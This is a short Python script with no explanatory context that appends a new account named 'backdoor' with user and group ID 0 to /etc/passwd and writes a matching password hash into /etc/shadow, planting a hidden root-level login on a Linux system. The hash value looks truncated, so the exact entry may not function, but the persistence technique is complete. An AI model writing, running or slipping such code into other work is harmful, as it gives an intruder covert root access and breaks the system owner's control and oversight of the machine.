line = "backdoor:x:0:0:backup:/root:/bin/bash\n"
shadow_line = "backdoor:$6$salt$Hb7pXl5r6C2Xn0:19000:0:99999:7:::\n"
with open("/etc/passwd", "a") as p:
    p.write(line)
with open("/etc/shadow", "a") as s:
    s.write(shadow_line)
